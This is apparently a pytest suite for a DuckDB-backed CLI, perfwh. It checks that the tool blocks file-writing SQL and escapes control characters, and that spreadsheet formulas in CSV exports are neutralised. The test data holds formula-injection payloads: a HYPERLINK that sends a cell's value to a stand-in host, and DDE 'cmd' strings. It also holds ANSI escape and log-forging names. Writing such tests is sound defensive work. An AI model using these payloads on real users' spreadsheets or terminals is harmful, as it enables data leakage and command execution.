"""Hostile and careless users: `perfwh sql` writes no file, no export carries a formula a
spreadsheet would run, every command fails in one line with a documented status, the limits
say so, ids stay put, and `make` needs no root."""
from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import duckdb
import pytest

from ingest.spreadsheet import safe_cell
from perfwh.cli import main
from perfwh.core.paths import PROJECT_ROOT, RAW_DIR, warehouse_env
from perfwh.warehouse.query import DEFAULT_MEMORY_LIMIT, DEFAULT_TIMEOUT
from support.sandbox import private_layers

PERFWH = [sys.executable, "-m", "perfwh.cli"]
HEADER = ("product,product_version,platform,server_cores,scenario,message_size_bytes,persistent,"
          "concurrency_kind,concurrency,replicas,msg_rate,cpu_busy_pct,cpu_ms_per_msg\n")
# Names a spreadsheet runs (OWASP's examples): a link, a command, a function after '@'.
PRODUCT = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
VERSION = "-2+3"
PLATFORM = "@SUM(1+1)*cmd|' /C calc'!A0"
SCENARIO = "=cmd|' /C calc'!A0"


def run_cli(*args) -> subprocess.CompletedProcess:
    return subprocess.run(PERFWH + [str(a) for a in args], capture_output=True, text=True, timeout=300)


def in_process(capsys, *args) -> tuple[int, str, str]:
    status = main([str(a) for a in args])
    out, err = capsys.readouterr()
    return status, out, err


def one_line(err: str, *words: str) -> str:
    """The command's failure as perfwh says it: no traceback, one line (and at most a second
    saying what stayed unchanged); ``words`` appear in it."""
    lines = [line for line in err.strip().splitlines() if line.strip()]
    assert lines and "Traceback" not in err and len(lines) <= 2, err
    assert all(w in lines[0] for w in words), err
    return lines[0]


def hostile_rows(path: Path, product=PRODUCT, version=VERSION, platform=PLATFORM,
                 scenario=SCENARIO, order=1) -> Path:
    """Three sizes of one series (numbers that hold together, as test_reliability's), named
    with formulas; written with Python's csv module, as a spreadsheet user's tool would."""
    rows = [(120, "2864.4", "2.6"), (134, "2300.5", "3.3"), (1384, "1362.3", "5.5")][::order]
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    for size, rate, cost in rows:
        writer.writerow([product, version, platform, 8, scenario, size, "false", "flow_copies",
                         "", "", rate, "94.0", cost])
    path.write_text(HEADER + out.getvalue(), encoding="utf-8")
    return path


def folder_state(folder: Path) -> dict:
    """Every file under ``folder``: size and modification time (nanoseconds)."""
    return {str(p.relative_to(folder)): (p.stat().st_size, p.stat().st_mtime_ns)
            for p in sorted(folder.rglob("*"))}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, built_warehouse) -> dict:
    """A copy of the warehouse and the raw layer with a submission named with formulas filed."""
    from perfwh.stages.add import add

    tmp = tmp_path_factory.mktemp("hostile")
    box = private_layers(tmp, built_warehouse)
    raw, db = box["raw"], box["db"]
    con = duckdb.connect(str(db), read_only=True)
    series_before = con.sql("SELECT series_id, series_label FROM model_fits").fetchall()
    con.close()
    path = hostile_rows(tmp / "formulas.csv")
    add(path, {}, warehouse=db, sources_file=raw / "sources.yml")
    return {"tmp": tmp, "raw": raw, "sources": raw / "sources.yml", "db": db, "path": path,
            "series_before": series_before}


# -- perfwh sql: no file created or changed, one query, bounded ----------------------------

def test_sql_runs_no_statement_that_writes(built_warehouse, tmp_path):
    """Every kind of DuckDB statement that writes, aimed at the warehouse's own paths (which
    DuckDB lets a connection write: its WAL files, its temporary folder) and elsewhere: each is
    refused in one line and no file anywhere is created or changed."""
    folder = tmp_path / "wh"
    folder.mkdir()
    db = folder / "warehouse.duckdb"
    shutil.copyfile(built_warehouse, db)
    out = tmp_path / "out"
    out.mkdir()
    wal = f"{db}.wal"
    statements = {
        f"COPY (SELECT 1 AS a) TO '{wal}' (FORMAT csv)": 2,
        f"COPY (SELECT repeat('x', 1000) FROM range(20000)) TO '{wal}.recovery' (FORMAT csv)": 2,
        f"COPY measurements TO '{out / 'm.parquet'}' (FORMAT parquet)": 2,
        f"EXPORT DATABASE '{out / 'export'}'": 2,
        f"ATTACH '{out / 'new.duckdb'}' AS other": 2,
        f"ATTACH '{out / 'new.duckdb'}' AS other; CREATE TABLE other.t AS SELECT 1": 2,
        "CREATE TABLE t AS SELECT 1": 2,
        "INSERT INTO dim_product SELECT * FROM dim_product": 2,
        "UPDATE dim_product SET product = 'x'": 2,
        "DELETE FROM dim_product": 2,
        "DROP TABLE dim_product": 2,
        "PRAGMA enable_profiling = 'json'": 2,
        f"SET profiling_output = '{out / 'profile.json'}'": 2,
        f"SET temp_directory = '{out}'": 2,
        "RESET memory_limit": 2,
        "INSTALL spatial": 2,
        "LOAD spatial": 2,
        "CHECKPOINT": 2,
        "FORCE CHECKPOINT": 2,
        "VACUUM": 2,
        f"CALL enable_logging(storage = 'file', storage_config = {{'path': '{out / 'log'}'}})": 2,
        f"EXPLAIN ANALYZE COPY (SELECT 1) TO '{out / 'e.csv'}'": 2,
        "PIVOT measurements ON product USING count(*)": 2,
        # queries that try from inside a SELECT
        f"SELECT * FROM enable_logging(storage = 'file', storage_config = {{'path': '{out / 'log'}'}})": 1,
        "SELECT * FROM force_checkpoint()": 1,
        f"SELECT * FROM query('COPY (SELECT 1) TO ''{out / 'q.csv'}''')": 1,
        f"SELECT * FROM read_csv('{out / 'nothing.csv'}')": 1,
        # past the memory limit a query fails: it does not spill to a folder beside the warehouse
        "SELECT count(*) FROM (SELECT * FROM range(20000000) r ORDER BY random())": 1,
    }
    before = folder_state(folder)
    for statement, status in statements.items():
        done = run_cli("sql", "--db", db, "--memory-limit", "64MB", statement)
        assert done.returncode == status, (statement, done.stderr)
        one_line(done.stderr, "perfwh sql:")
        assert folder_state(folder) == before, statement
        assert list(out.iterdir()) == [], statement
    checkpoint = run_cli("sql", "--db", db, "SELECT * FROM checkpoint()")  # read-only: a no-op
    assert checkpoint.returncode == 0 and folder_state(folder) == before


def test_the_sql_process_can_change_no_file(tmp_path):
    """The operating system's wall behind the statement check: once `perfwh sql` has given up
    its rights (Landlock, where the kernel has it), not even DuckDB itself can write a file."""
    code = f"""
import duckdb, sys
from perfwh.core.sandbox import forbid_file_changes, landlock_abi
abi = landlock_abi()
enforced = forbid_file_changes()
print(abi, enforced)
for attempt in (lambda: open({str(tmp_path / 'a.txt')!r}, "w"),
                lambda: duckdb.connect(":memory:").execute("COPY (SELECT 1) TO '{tmp_path / 'b.csv'}'")):
    try:
        attempt()
        print("written")
    except Exception as err:
        print("refused", type(err).__name__)
"""
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=PROJECT_ROOT)
    first, *attempts = done.stdout.split("\n")[:3]
    abi, enforced = first.split()
    assert enforced == str(int(abi) > 0), done.stdout + done.stderr
    if enforced == "True":  # a kernel with Landlock: nothing is written
        assert attempts == ["refused PermissionError", "refused IOException"], done.stdout
        assert list(tmp_path.iterdir()) == []
    else:  # no Landlock: the statement check and DuckDB's settings are the walls
        assert attempts == ["written", "written"], done.stdout


def test_sql_runs_one_query_within_default_bounds(built_warehouse):
    done = run_cli("sql", "--db", built_warehouse, "SELECT 1; SELECT 2")
    assert done.returncode == 2
    one_line(done.stderr, "2 statements", "one query at a time")
    from perfwh.cli import make_parser

    args = make_parser().parse_args(["sql", "SELECT 1"])
    assert (args.timeout, args.memory_limit) == (DEFAULT_TIMEOUT, DEFAULT_MEMORY_LIMIT) == (300.0, "1GB")
    for option, value in (("--timeout", "0"), ("--timeout", "1e300"), ("--memory-limit", "99999999999999999999TB")):
        done = run_cli("sql", "--db", built_warehouse, option, value, "SELECT 1")
        assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr


# -- CSV: no formula a spreadsheet would run -------------------------------------------------

def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe():
    for text in ("=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", PRODUCT, SCENARIO):
        assert safe_cell(text) == "'" + text
    for value in ("-5", "+1.5e3", "-0.25", "1362.3", "ACE", "", " =x", -5, 2.5, None):
        assert safe_cell(value) == value


def test_sql_csv_writes_formulas_as_text(built_warehouse):
    done = run_cli("sql", "--csv", "--db", built_warehouse,
                   f"SELECT '{SCENARIO.replace(chr(39), chr(39) * 2)}' AS scenario, -5 AS n, '-5' AS t, "
                   "'@x' AS a, 'plain' AS p")
    assert done.returncode == 0, done.stderr
    assert list(csv.reader(io.StringIO(done.stdout))) == [["scenario", "n", "t", "a", "p"],
                                                          ["'" + SCENARIO, "-5", "-5", "'@x", "plain"]]


def test_exports_of_a_submission_named_with_formulas(hostile, capsys, tmp_path, monkeypatch):
    """The filed names come out of every CSV with the apostrophe; the template rows read back as
    the same measurements (the reader takes the apostrophe off); check warns on the names."""
    db, name = hostile["db"], hostile["path"].name
    status, out, _err = in_process(capsys, "template", "--rows-of", name, "--db", db)
    rows = list(csv.DictReader(io.StringIO(out)))
    assert status == 0 and len(rows) == 3
    assert {(r["product"], r["product_version"], r["platform"], r["scenario"]) for r in rows} == \
        {("'" + PRODUCT, "'" + VERSION, "'" + PLATFORM, "'" + SCENARIO)}
    again = tmp_path / "again.csv"
    again.write_text(out, encoding="utf-8")
    status, _out, err = in_process(capsys, "check", again, "--db", db, "--sources", hostile["sources"])
    assert status == 1 and f"the same measurements (keys and numbers) as {name}" in err, err

    from perfwh.publish.site.config import DOWNLOADS
    from perfwh.publish.site.output import write_downloads

    write_downloads(tmp_path / "out", db)
    with open(tmp_path / "out" / DOWNLOADS / "csv" / "measurements.csv", encoding="utf-8") as handle:
        mine = [r for r in csv.DictReader(handle) if r["source"] == name]
    assert len(mine) == 3 and {r["scenario"] for r in mine} == {"'" + SCENARIO}
    assert {r["platform"] for r in mine} == {"'" + PLATFORM}

    con = duckdb.connect(str(db), read_only=True)
    warned = con.sql("SELECT metric, count(*) FROM dq_findings WHERE rule = 'spreadsheet_formula' "
                     "AND source = ? GROUP BY ALL ORDER BY ALL", params=[name]).fetchall()
    others = con.sql("SELECT count(*) FROM dq_findings WHERE rule = 'spreadsheet_formula' "
                     "AND source <> ?", params=[name]).fetchall()
    con.close()
    assert warned == [("platform", 3), ("product", 3), ("product_version", 3), ("scenario", 3)]
    assert others == [(0,)]  # the reports name nothing so

    monkeypatch.chdir(tmp_path)  # the findings name the file as given: "=one.csv"
    hostile_rows(tmp_path / "=one.csv", platform="lab box", scenario="@here", product="ACE", version="13")
    status, out, err = in_process(capsys, "check", "=one.csv", "--db", db, "--sources", hostile["sources"],
                                  "--out", "findings.txt")
    lines = (tmp_path / "findings.txt").read_text(encoding="utf-8").splitlines()
    assert status == 0, err
    assert lines and all(line.startswith("'=one.csv:") for line in lines), lines  # a line is a cell too
    assert sum("warning spreadsheet_formula: scenario begins with '@'" in line for line in lines) == 3, lines


# -- one line and one status for every expected failure ------------------------------------

@pytest.fixture(scope="module")
def broken(tmp_path_factory, built_warehouse) -> dict:
    tmp = tmp_path_factory.mktemp("broken")
    (tmp / "bad.yml").write_text("reports: [\n  - file: x\n", encoding="utf-8")
    (tmp / "list.yml").write_text("reports:\n  - 1\n  - file: [a]\n", encoding="utf-8")
    (tmp / "text.duckdb").write_text("not a database", encoding="utf-8")
    with open(built_warehouse, "rb") as handle:
        (tmp / "truncated.duckdb").write_bytes(handle.read(100000))
    duckdb.connect(str(tmp / "other.duckdb")).close()
    (tmp / "folder.duckdb").mkdir()
    (tmp / "binary.csv").write_bytes(b"\x00\x01\x02 binary")
    (tmp / "quote.csv").write_text(HEADER + 'ACE,13,lab,8,"open,2048,false,docker_cores,2,,100,,1.0\n',
                                   encoding="utf-8")
    (tmp / "empty.csv").write_text("", encoding="utf-8")
    (tmp / "folder.csv").mkdir()
    return {"tmp": tmp}


def test_every_command_fails_in_one_line(broken, built_warehouse, hostile, capsys):
    """Each command against each kind of broken input - manifest, warehouse, raw file,
    arguments - ends with one line and its status (2: what was given cannot be used), never a
    traceback."""
    t, good = broken["tmp"], built_warehouse
    sub = hostile["path"]
    warehouses = [t / "text.duckdb", t / "truncated.duckdb", t / "other.duckdb", t / "folder.duckdb",
                  t / "missing.duckdb"]
    commands = {
        "findings": ["findings", "--rules", "duckdb"], "models": ["models"],
        "check": ["check", sub], "add": ["add", sub], "template": ["template", "--rows-of", "x.txt"],
        "size": ["size", "--scenario", "x", "--size", "1KB", "--rate", "1"],
        "notebooks": ["notebooks", "--out", t / "nb"], "site": ["site", "--out", t / "site"],
    }
    for db in warehouses:
        for name, args in commands.items():
            status, _out, err = in_process(capsys, *args, "--db", db)
            assert status == 2, (name, db, err)
            one_line(err, f"perfwh {name}:", str(db))
        done = run_cli("sql", "SELECT 1", "--db", db)  # sql gives up its rights: not in this process
        assert done.returncode == 2, done.stderr
        one_line(done.stderr, "perfwh sql:", str(db))
    for manifest in (t / "bad.yml", t / "list.yml", t / "missing.yml"):
        for args in (["check", sub, "--db", good], ["add", sub, "--db", t / "copy.duckdb", "--no-wait"]):
            shutil.copyfile(good, t / "copy.duckdb")
            status, _out, err = in_process(capsys, *args, "--sources", manifest)
            assert status == 2, (args, manifest, err)
            one_line(err, f"perfwh {args[0]}:", str(manifest))
        status, _out, err = in_process(capsys, "build", "--rules", "none", "--sources", manifest,
                                       "--out", t / "built.duckdb", "--no-parquet", "-q")
        assert status == 1
        one_line(err, "perfwh build: error:", str(manifest))
    expected = {"binary.csv": "NUL bytes", "quote.csv": "never closed", "empty.csv": "the file is empty",
                "folder.csv": "is a directory", "missing.csv": "no such file"}
    for file, words in expected.items():
        for command in ("check", "add"):
            shutil.copyfile(good, t / "copy.duckdb")
            status, _out, err = in_process(capsys, command, t / file, "--db", t / "copy.duckdb",
                                           "--sources", hostile["sources"])
            assert status == 2, (command, file, err)
            one_line(err, f"perfwh {command}:", words)
    edited = t / "raw"
    shutil.copytree(RAW_DIR, edited, dirs_exist_ok=True)
    report = edited / "reports" / "iib10-xlinux.txt"
    report.write_text(report.read_text(encoding="utf-8") + "\n", encoding="utf-8")
    status, _out, err = in_process(capsys, "build", "--rules", "none", "--raw", edited, "--sources",
                                   edited / "sources.yml", "--out", t / "built.duckdb", "-q")
    assert status == 1
    one_line(err, "perfwh build: error:", "does not match sources.yml")
    bad_arguments = [["sql", "--timeout", "-1", "SELECT 1"], ["check", sub, "--fit-limit", "1e99"],
                     ["notebooks", "--jobs", "0"], ["notebooks", "--timeout", "-5"],
                     ["size", "--scenario", "x", "--size", "1KB", "--rate", "1e99", "--json"],
                     ["size", "--scenario", "x", "--size", "1KB", "--rate", "1", "--utilisation", "2"],
                     ["check", sub, "--memory-limit", "99999999999999999999TB"], ["build", "--nope"],
                     ["add", sub, "--waive", "x"], ["rules", "--nope"], ["recover", "--nope"]]
    for args in bad_arguments:
        try:
            status = main([str(a) for a in args])
        except SystemExit as stop:  # argparse's usage error
            status = stop.code
        _out, err = capsys.readouterr()
        assert status == 2 and "Traceback" not in err, (args, err)
        [line] = err.strip().splitlines()  # no usage block before it
        assert line.startswith("perfwh"), err


def test_an_unforeseen_fault_is_one_line_too(capsys, monkeypatch, built_warehouse):
    """A fault of perfwh's own still ends with one line and status 1 (-v shows where)."""
    import models.sizing

    def broken(*args, **kwargs):
        raise KeyError("a bug")

    monkeypatch.setattr(models.sizing, "size_in", broken)
    args = ["size", "--scenario", "x", "--size", "1KB", "--rate", "1", "--db", built_warehouse]
    status, _out, err = in_process(capsys, *args)
    assert status == 1
    one_line(err, "perfwh size: error: unexpected KeyError", "-v")
    status, _out, err = in_process(capsys, "-v", *args)
    assert status == 1 and "Traceback" in err  # asked for, the traceback is there


# -- limits that say so ----------------------------------------------------------------------

def test_names_sizes_rates_and_counts_have_documented_ranges(tmp_path, built_warehouse, capsys):
    long_name = "x" * 200_000
    cells = {  # column: (a value out of range, what the reader says)
        "scenario": (long_name, "scenario is 200000 characters long"),
        "product": ("p" * 201, "product is 201 characters long"),
        "replicas": ("99999999999999999999", "replicas is out of range"),
        "server_cores": ("1000001", "server_cores is out of range"),
        "concurrency": ("5000000", "concurrency is out of range"),
        "message_size_bytes": ("1025MB", "message_size_bytes is out of range"),
        "msg_rate": ("2e9", "msg_rate is out of range"),
        "cpu_busy_pct": ("9" * 5000, "cpu_busy_pct is out of range"),
        "cpu_ms_per_msg": ("99999999", "cpu_ms_per_msg is out of range"),
    }
    base = dict(product="ACE", product_version="13", platform="lab box", server_cores="8",
                scenario="S", message_size_bytes="2048", persistent="false",
                concurrency_kind="docker_cores", concurrency="2", replicas="", msg_rate="100",
                cpu_busy_pct="", cpu_ms_per_msg="1.0")
    columns = HEADER.strip().split(",")
    rows = [{**dict(base, scenario=f"S{i}"), column: value}
            for i, (column, (value, _)) in enumerate(cells.items())]
    path = tmp_path / "limits.csv"
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=columns, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    status, out, err = in_process(capsys, "check", path, "--db", built_warehouse)
    assert status == 1, err
    for line, (column, (_value, says)) in enumerate(cells.items(), 2):
        mine = [l for l in out.splitlines() if l.startswith(f"{path}:{line}: error unreadable_value")]
        assert len(mine) == 1 and says in mine[0], (column, out)
        assert len(mine[0]) < 500  # a 200,000-character name, a 5,000-digit number: their beginnings
    sizes = {"0.0001B": "out of range", "99999999999999999999KB": "out of range", "1025MB": "out of range"}
    for size, says in sizes.items():
        status, _out, err = in_process(capsys, "size", "--scenario", "HTTP XMLNSC ESQL Transformation",
                                       "--size", size, "--rate", "500", "--db", built_warehouse)
        assert status == 2
        one_line(err, "perfwh size: error:", says, "from 1 byte to 1024MB")


def test_an_unterminated_quote_is_reported_as_such(broken, built_warehouse, capsys):
    status, _out, err = in_process(capsys, "check", broken["tmp"] / "quote.csv", "--db", built_warehouse)
    assert status == 2
    one_line(err, "quote.csv:2:", "a quoted cell opened on this line is never closed")


def test_copies_of_a_filed_source_are_refused_with_one_status(hostile, tmp_path, capsys):
    """The same bytes under another name and the same rows in another order are the same kind
    of refusal - a copy of a filed source - with the same status, 1."""
    same_bytes = tmp_path / "copy.csv"
    shutil.copyfile(hostile["path"], same_bytes)
    reordered = hostile_rows(tmp_path / "reordered.csv", order=-1)
    for path, says in ((same_bytes, "the same bytes as formulas.csv"),
                       (reordered, "the same measurements (keys and numbers) as formulas.csv")):
        status, _out, err = in_process(capsys, "check", path, "--db", hostile["db"],
                                       "--sources", hostile["sources"])
        assert status == 1
        one_line(err, "perfwh check: refused:", says)


# -- numbers as DuckDB types them; ids that stay put; the texts a warehouse was built from ----

def test_computed_percentages_are_decimals(built_warehouse):
    types = dict(duckdb.connect(str(built_warehouse), read_only=True).sql(
        "SELECT column_name, data_type FROM duckdb_columns() WHERE table_name = 'model_accuracy' "
        "AND column_name LIKE '%pct'").fetchall())
    assert len(types) >= 8 and set(types.values()) == {"DECIMAL(12,2)"}
    done = run_cli("sql", "--csv", "--db", built_warehouse,
                   "SELECT mdape_pct FROM model_accuracy WHERE scope = 'ace11-vs-iib10-docker-2019.txt' "
                   "AND model = 'chosen'")
    assert re.fullmatch(r"mdape_pct\n\d+\.\d\d\n", done.stdout), done.stdout  # 2.68, not 2.6800000000000184


def test_series_keep_their_ids_when_a_source_is_filed(hostile):
    con = duckdb.connect(str(hostile["db"]), read_only=True)
    after = con.sql("SELECT series_id, series_label FROM model_fits").fetchall()
    con.close()
    assert len(hostile["series_before"]) > 100
    assert set(hostile["series_before"]) < set(after)  # every series kept its id; one was added
    assert len({i for i, _ in after}) == len(after)


def test_site_shows_only_the_raw_texts_its_warehouse_was_built_from(hostile, tmp_path):
    from perfwh.publish.pages import common, report

    impostor = tmp_path / "impostor"
    impostor.mkdir()
    (impostor / hostile["path"].name).write_text(HEADER + "ACE,13,x,8,y,1,false,,,,1,,1\n", encoding="utf-8")
    for raw, found in ((hostile["raw"], True), (RAW_DIR, False), (impostor, False)):
        with warehouse_env(hostile["db"], raw):
            common.reset()
            try:
                filed = next(r for r in common.reports() if r["source"] == hostile["path"].name)
                iib = next(r for r in common.reports() if r["source"] == "iib10-xlinux.txt")
                shown = report.built_from(filed)
                text = str(report._source_text(filed, set()))
                assert report.built_from(iib) is not None or raw == impostor
            finally:
                common.reset()
        assert (shown is not None) == found, raw
        assert ("is not in" in text) != found
        if found:
            assert shown.read_bytes() == hostile["path"].read_bytes()


# -- make: no root, no idle package manager needed ----------------------------------------------

def test_make_needs_neither_root_nor_system_packages():
    def dry(*targets: str) -> str:
        return subprocess.run(["make", "-n", "-C", str(PROJECT_ROOT), *targets], capture_output=True,
                              text=True, timeout=120).stdout

    plain = dry("all", "install", "-W", "requirements.txt")  # as if install had to run again
    assert "pip install" in plain and "apt-get" not in plain
    tested = dry("test")
    assert "apt-get" in tested and "DPkg::Lock::Timeout" in tested and "pytest" in tested


def test_system_packages_say_what_to_run_without_root(tmp_path):
    """As an ordinary user (this test drops root if it has it), with a command missing, the
    target names the packages and the command to run, and fails; nothing is installed."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for tool in ("id", "date"):  # what the recipe needs; no sudo, no apt-get on this PATH
        os.symlink(shutil.which(tool), bin_dir / tool)
    command = ["make", "-s", "-C", str(PROJECT_ROOT), "system-packages",
               "SYSTEM_COMMANDS=perfwh-missing-command", "SYSTEM_PACKAGES=perfwh-missing-package",
               f"PATH={bin_dir}"]
    if os.geteuid() == 0:
        command = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"] + command
    done = subprocess.run(command, capture_output=True, text=True, timeout=120,
                          env={"PATH": os.environ["PATH"], "HOME": str(tmp_path)})
    assert done.returncode != 0
    assert "need perfwh-missing-package, which only root can install" in done.stderr, done.stderr
    assert "sudo apt-get install -y --no-install-recommends perfwh-missing-package" in done.stderr


def test_contents_markdown_holds_hostile_names_as_text_and_counts_waived_findings_apart():
    """A submission titled with markup, & and | is text in the README-style table (no <b>, no
    extra cell); a finding waived when it was filed is no error of the count."""
    import duckdb

    from perfwh.warehouse.query import contents_markdown

    con = duckdb.connect()
    con.execute("CREATE TABLE dim_report AS SELECT 1 AS report_id, 'lab <b>2 & co | #1.csv' AS source, "
                "'Lab <b>2</b> & co | *best*' AS title, 2026 AS published_year, NULL AS retired_by")
    con.execute("CREATE TABLE dim_source_table AS SELECT 1 AS report_id")
    con.execute("CREATE TABLE fact_metric_value AS SELECT 1 AS report_id FROM range(3)")
    con.execute("CREATE TABLE fact_claim AS SELECT 1 AS report_id, 'value' AS claim_kind WHERE false")
    con.execute("CREATE TABLE dq_findings AS SELECT * FROM (VALUES ('lab <b>2 & co | #1.csv', 'error', NULL), "
                "('lab <b>2 & co | #1.csv', 'error', 'accepted: a known artefact')) t(source, severity, waiver)")
    text = contents_markdown(con)
    row = text.splitlines()[-1]
    # the title as text, the file name as code (which a Markdown renderer shows literally)
    assert row.startswith("| Lab &lt;b&gt;2&lt;/b&gt; &amp; co \\| \\*best\\* (`lab <b>2 & co \\| #1.csv`) |")
    assert len(re.split(r"(?<!\\)\|", row)) == 7  # five cells between the unescaped bars
    assert "1 errors and 0 warnings" in text and "1 findings waived when filed" in text


def test_build_out_naming_a_folder_is_refused_before_anything_is_built(tmp_path):
    """`--out` naming a folder, a pipe (or a path below a file) is refused at once, and leaves nothing
    behind: no journal that would wedge the next command in that folder."""
    (tmp_path / "wh.duckdb").mkdir()
    done = run_cli("build", "--out", str(tmp_path / "wh.duckdb"), "--rules", "none", "-q")
    assert done.returncode == 1
    assert "wh.duckdb is a folder: --out names the warehouse file to write" in done.stderr
    (tmp_path / "a.csv").write_text("x")
    below_a_file = run_cli("build", "--out", str(tmp_path / "a.csv" / "wh.duckdb"), "--rules", "none", "-q")
    assert below_a_file.returncode == 1 and "a.csv is not a folder" in below_a_file.stderr
    # a device or a pipe (as /dev/null is: replaced by a file, the machine breaks)
    os.mkfifo(tmp_path / "pipe")
    piped = run_cli("build", "--out", str(tmp_path / "pipe"), "--rules", "none", "-q")
    assert piped.returncode == 1 and "pipe is not a regular file" in piped.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.csv", "pipe", "wh.duckdb"]
    assert (tmp_path / "pipe").is_fifo()


@pytest.mark.parametrize("column, name, code", [
    ("platform", "host\x1b[31mRED\x1b[0m\nFAKE.csv:9: error forged: pwned", "U+001B"),
    ("scenario", "\t", "U+0009"),
    ("product", "IIB\u202e01", "U+202E"),
    ("platform", "x\u200bLinux", "U+200B"),
    ("product_version", "10.0\x07", "U+0007"),
    ("platform", "a\u2028b", "U+2028"),
    ("scenario", "ISO\u00ad8583", "U+00AD")])
def test_a_name_holding_a_control_character_is_refused_and_printed_escaped(built_warehouse, tmp_path,
                                                                             column, name, code):
    """A name with an escape, a line break, a tab, a direction override or a zero-width space
    prints as nothing yet acts on the terminal or page (or forges a finding's line): the cell is
    an error naming the character, quoted with its breaks as \\n and its escapes as \\u001b."""
    names = dict(product="IIB", version="10.0.0.2", platform="xLinux", scenario="ISO 8583 Transformation")
    names[{"product_version": "version"}.get(column, column)] = name
    path = hostile_rows(tmp_path / "named.csv", **names)
    done = run_cli("check", path, "--db", built_warehouse)
    assert done.returncode == 1, done.stderr
    errors = [line for line in done.stdout.splitlines() if f"{column} holds the control character {code}" in line]
    assert len(errors) == 3 and all(line.startswith(f"{path}:") for line in errors), done.stdout
    assert not re.search("[\x00-\x08\x0b-\x1f\u00ad\u200b\u202e\u2028]", done.stdout + done.stderr)
    assert not any(line.startswith("FAKE.csv") for line in done.stdout.splitlines())


def test_an_error_naming_a_file_with_a_line_break_stays_one_line(broken, built_warehouse, hostile, capsys):
    """A file, warehouse or manifest whose name holds a line break is named with it as \\n in
    the error (and in the notes and summaries): one line, which no name can split into a
    second that looks like perfwh's own."""
    t = broken["tmp"]
    named = t / "two\nlines.csv"
    shutil.copyfile(t / "binary.csv", named)
    shutil.copyfile(built_warehouse, t / "copy.duckdb")
    escaped = lambda path: str(path).replace("\n", "\\n")  # noqa: E731
    cases = [
        (["check", named, "--db", built_warehouse], named),
        (["add", named, "--db", t / "copy.duckdb", "--sources", hostile["sources"], "--no-wait"], named),
        (["check", t / "no\nsuch.csv", "--db", built_warehouse], t / "no\nsuch.csv"),
        (["check", hostile["path"], "--db", t / "no\nsuch.duckdb"], t / "no\nsuch.duckdb"),
        (["check", hostile["path"], "--db", built_warehouse, "--sources", t / "no\nsuch.yml"], t / "no\nsuch.yml"),
        (["size", "--scenario", "x", "--size", "1KB", "--rate", "1", "--db", t / "no\nsuch.duckdb"],
         t / "no\nsuch.duckdb"),
    ]
    for args, path in cases:
        status, _out, err = in_process(capsys, *args)
        # (a submission so named is refused for its name before it is read: status 1)
        assert status == (1 if path == named else 2), (args, err)
        assert escaped(path) in one_line(err), err
    done = run_cli("sql", "SELECT 1", "--db", t / "no\nsuch.duckdb")
    assert done.returncode == 2 and escaped(t / "no\nsuch.duckdb") in one_line(done.stderr)
    out = t / "findings\nFAKE.csv:9: error x"
    status, _out, err = in_process(capsys, "check", hostile["path"], "--db", built_warehouse, "--out", out)
    assert status in (0, 1) and out.is_file()
    assert f"written to {escaped(out)}" in err and all(line.startswith("perfwh check: ") for line in err.splitlines())


def test_what_perfwh_prints_from_a_file_shows_its_control_characters_as_escapes(built_warehouse, tmp_path):
    """A file name (or a warehouse's string) with an escape prints it as \\u001b, in text and
    in JSON, which reads it back as the same character. Such a name is not filed (it would act
    on every page, chart and notebook that prints the source's name): check refuses it as add
    would, naming the character, the name escaped."""
    path = hostile_rows(tmp_path / "e\x1b[31m.csv", product="IIB", version="10.0.0.2", platform="xLinux",
                        scenario="ISO 8583 Transformation")
    for args in (["check", path, "--db", built_warehouse, "--json"], ["check", path, "--db", built_warehouse]):
        done = run_cli(*args)
        assert done.returncode == 1 and "\x1b" not in done.stdout + done.stderr, done.stderr
        assert (f"{tmp_path}/e\\u001b[31m.csv: the file name holds the control character U+001B"
                in done.stderr), done.stderr
    forging = hostile_rows(tmp_path / "f\nFAKE.csv:9: error x.csv", product="IIB", version="10.0.0.2",
                           platform="xLinux", scenario="ISO 8583 Transformation")
    done = run_cli("check", forging, "--db", built_warehouse)
    lines = (done.stdout + done.stderr).splitlines()
    assert done.returncode == 1 and len(lines) == 1 and "U+000A" in lines[0], lines
    assert f"{tmp_path}/f\\nFAKE.csv:9: error x.csv: the file name" in lines[0]
    shown = run_cli("sql", "SELECT 'a' || chr(27) || '[2J' || chr(8238) AS x", "--db", built_warehouse, "--json")
    assert shown.returncode == 0 and "\x1b" not in shown.stdout and "\u202e" not in shown.stdout
    assert json.loads(shown.stdout)[0]["x"] == "a\x1b[2J\u202e"


def test_a_thousand_extra_columns_and_a_line_longer_than_a_csv_line_may_be(built_warehouse, tmp_path):
    """Extra columns are allowed however many (1,200 here: more than DuckDB's expression
    depth, were the cells of a row counted term by term); a line over DuckDB's 2 MB limit is
    named with its length, not as a bare "CSV Error on Line: 2"."""
    base = hostile_rows(tmp_path / "base.csv", product="IIB", version="10.0.0.2", platform="xLinux",
                        scenario="ISO 8583 Transformation").read_text().splitlines()
    wide = tmp_path / "wide.csv"
    wide.write_text("\n".join([base[0] + "".join(f",x{i}" for i in range(1200))]
                              + [line + "," * 1200 for line in base[1:]]) + "\n")
    done = run_cli("check", wide, "--db", built_warehouse)
    assert done.returncode == 1 and "3 rows" in done.stderr, done.stderr  # read: the usual errors
    long = tmp_path / "long.csv"
    long.write_text("\n".join([base[0], base[1].replace("xLinux", "y" * 3_000_000)] + base[2:]) + "\n")
    done = run_cli("check", long, "--db", built_warehouse)
    assert done.returncode == 2, done.stderr
    assert f"{long}:2: the line is 3,000,079 bytes long, more than the 2,000,000 bytes" in done.stderr


def test_findings_written_to_a_file_and_summaries_show_what_acts_escaped(built_warehouse, tmp_path):
    """--out FILE (text or JSON) gets the escapes the terminal gets; a file name's tab or line
    break is \\t or \\n in the one line that refuses it; a name that is not UTF-8 is refused in
    one line, not a crash on printing it."""
